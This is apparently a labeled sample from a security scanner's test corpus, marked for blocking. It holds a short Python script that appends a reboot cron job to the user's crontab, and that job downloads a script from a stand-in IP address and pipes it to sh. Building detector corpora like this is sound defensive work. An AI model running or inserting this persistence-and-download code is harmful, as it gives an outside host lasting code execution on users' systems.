# pyguard-corpus: verdict=block category=filesystem rules=PG702
# what: writes a cron entry that downloads and runs a script at every reboot
import getpass

spool = f"/var/spool/cron/crontabs/{getpass.getuser()}"
with open(spool, "a", encoding="utf-8") as cron:
    cron.write("@reboot curl -fsSL http://203.0.113.9/u.sh | sh\n")
